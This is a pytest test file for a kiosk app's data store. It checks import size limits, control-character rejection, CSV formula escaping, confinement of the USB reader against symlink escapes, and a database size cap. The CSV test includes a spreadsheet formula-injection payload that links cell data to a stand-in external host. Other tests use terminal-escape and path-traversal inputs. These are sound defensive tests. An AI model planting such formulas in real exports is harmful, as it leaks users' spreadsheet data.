"""The smaller store fixes of issue 19, each pinned by a test that failed before it.

Import size is limited before parsing; names with control characters are
refused; CSV cells that a spreadsheet would run as formulas are escaped; the
USB-stick reader never leaves the stick; the database size cap is applied at
start-up; a visit row follows the visitor.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest

from kiosk.dataset import Action, Dataset, Recording
from kiosk.errors import DatasetFormatError, StorageError, StorageFullError
from kiosk.store.createai_json import MAX_JSON_VALUES, parse_createai
from kiosk.store.database import Store
from kiosk.store.export import dataset_csv
from kiosk.store.startup import db_cap_bytes, open_for_kiosk
from kiosk.store.usb import list_datasets, on_stick, read_dataset
from tests.store.helpers import action_doc, recording, write_json

REPO = Path(__file__).resolve().parents[2]

# --- size limits before parsing ---------------------------------------------------------


def test_too_many_values_are_refused_before_parsing() -> None:
    numbers = b",".join([b"0"] * (MAX_JSON_VALUES + 10))
    raw = b'[{"id": "a", "name": "a", "recordings": [{"id": "r", "data": {"x": [' + numbers
    raw += b'], "y": [0], "z": [0]}}]}]'
    with pytest.raises(DatasetFormatError, match="values; a dataset file can hold at most"):
        parse_createai(raw, "big.json")


def test_a_16_mb_import_stays_small_in_memory(tmp_path: Path) -> None:
    """Peak memory of refusing a 16 MB file of numbers, in a fresh process (was 241 MB here)."""
    path = tmp_path / "big.json"
    count = (16 * 1024 * 1024 - 100) // 4
    chunk = b"0.1," * 65536
    with path.open("wb") as handle:
        handle.write(b'[{"id": "a", "name": "a", "recordings": [{"id": "r", "data": {"x": [')
        for _ in range(count // 65536):
            handle.write(chunk)
        handle.write(b'0], "y": [0], "z": [0]}}]}]')
    # VmHWM (peak resident memory) starts afresh at exec, unlike ru_maxrss.
    code = (
        "import re\n"
        "from pathlib import Path\n"
        "from kiosk.store.createai_json import load_createai\n"
        "def peak():\n"
        "    status = Path('/proc/self/status').read_text()\n"
        "    return int(re.search(r'VmHWM:\\s+(\\d+)', status).group(1)) // 1024\n"
        "base = peak()\n"
        "try:\n"
        f"    load_createai({str(path)!r})\n"
        "except Exception as error:\n"
        "    print(type(error).__name__)\n"
        "print(peak() - base)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        cwd=REPO,
        env=dict(os.environ, PYTHONPATH=str(REPO)),
        timeout=120,
    )
    kind, grown_mb = done.stdout.split()
    assert kind == "DatasetFormatError", done.stderr
    assert int(grown_mb) < 100, f"reading a refused 16 MB file grew the process by {grown_mb} MB"


# --- names ------------------------------------------------------------------------------


@pytest.mark.parametrize("bad", ["wave\0", "a\nb", "tab\there", "\x1b[31mred", "rtl\u202egoal"])
def test_control_characters_in_names_are_refused_clearly(store: Store, bad: str) -> None:
    project = store.ensure_project("p")
    with pytest.raises(StorageError, match="control character"):
        store.add_action(project, bad, None)
    with pytest.raises(StorageError, match="control character"):
        store.ensure_project(bad)
    assert store.load_dataset(project).actions == ()  # nothing half-saved


def test_control_characters_in_a_file_are_refused_before_saving(tmp_path: Path) -> None:
    doc = [action_doc("wave\u0000")]
    path = write_json(tmp_path / "d.json", doc)
    with pytest.raises(DatasetFormatError, match=r"control character \(NUL\)"):
        parse_createai(path.read_bytes(), "d.json")


# --- CSV --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]
)
def test_csv_cells_that_look_like_formulas_are_escaped(name: str) -> None:
    dataset = Dataset((Action(name=name, recordings=(recording(1, id="=1+1"),)),))
    rows = list(csv.reader(io.StringIO(dataset_csv(dataset))))
    assert rows[1][0] == "'" + name and rows[1][1] == "'=1+1"
    assert float(rows[1][3]) == pytest.approx(recording(1).samples[0][0])  # numbers stay numbers


def test_csv_keeps_ordinary_names() -> None:
    dataset = Dataset((Action(name="Wave 2", recordings=(recording(1, id="17"),)),))
    rows = list(csv.reader(io.StringIO(dataset_csv(dataset))))
    assert rows[1][:2] == ["Wave 2", "17"]


# --- the USB stick ----------------------------------------------------------------------


def test_the_usb_reader_never_leaves_the_stick(tmp_path: Path) -> None:
    stick, secret = tmp_path / "stick", tmp_path / "kiosk"
    stick.mkdir()
    secret.mkdir()
    (secret / "kiosk.json").write_text("[]")
    write_json(stick / "real.json", [action_doc("wave")])
    (stick / "link.json").symlink_to(secret / "kiosk.json")
    (stick / "folder").symlink_to(secret, target_is_directory=True)
    (stick / "sub").mkdir()
    (stick / "sub" / "up.json").symlink_to(secret / "kiosk.json")
    assert [p.name for p in list_datasets(stick)] == ["real.json"]
    assert on_stick(stick, stick / "real.json")
    for outside in (
        stick / "link.json",
        stick / "folder" / "kiosk.json",
        stick / "sub" / "up.json",
        stick / ".." / "kiosk" / "kiosk.json",
    ):
        assert not on_stick(stick, outside)
        with pytest.raises(DatasetFormatError, match="not a file on the USB stick"):
            read_dataset(stick, outside)
    dataset, _ = read_dataset(stick, stick / "real.json")
    assert dataset.actions[0].name == "wave"


# --- the database size cap --------------------------------------------------------------


def test_the_size_cap_is_applied_at_start_up(tmp_path: Path) -> None:
    path = tmp_path / "kiosk.sqlite3"
    store, report = open_for_kiosk(path)
    with store:
        assert report.cap_bytes == db_cap_bytes(path)
        pages = store._db.execute("PRAGMA max_page_count").fetchone()[0]
        page = store._db.execute("PRAGMA page_size").fetchone()[0]
        assert pages * page <= report.cap_bytes


def test_a_save_beyond_the_cap_fails_like_a_full_disk(tmp_path: Path) -> None:
    path = tmp_path / "kiosk.sqlite3"
    store, _ = open_for_kiosk(path, max_bytes=400_000)
    with store:
        project = store.ensure_project("p")
        action = store.add_action(project, "wave", None)
        rng = np.random.default_rng(1)
        saved = 0
        with pytest.raises(StorageFullError):
            for _ in range(1000):
                store.add_recording(action, Recording(samples=rng.normal(size=(4000, 3))))
                saved += 1
        assert 0 < saved < 1000
        assert len(store.load_dataset(project).actions[0].recordings) == saved  # nothing lost


def test_the_cap_is_half_the_disk_within_bounds(tmp_path: Path) -> None:
    cap = db_cap_bytes(tmp_path / "x.sqlite3")
    assert 16 * 1024 * 1024 <= cap <= 2 * 1024**3


# --- the visit row ----------------------------------------------------------------------


def test_the_visit_row_follows_the_visitor(store: Store) -> None:
    project = store.ensure_project("visitor")
    assert store.visit(project) is None
    store.mark_visit(project, 1000)
    store.mark_visit(project, 5000)
    visit = store.visit(project)
    assert visit is not None and (visit.started_at, visit.last_active) == (1000, 5000)
    action = store.add_action(project, "wave", None)
    store.add_recording(action, recording(1))
    store.end_visit(project, wipe=False)
    assert store.visit(project) is None and store.load_dataset(project).actions
    store.mark_visit(project, 9000)
    store.end_visit(project, wipe=True)
    assert store.visit(project) is None and store.load_dataset(project).actions == ()
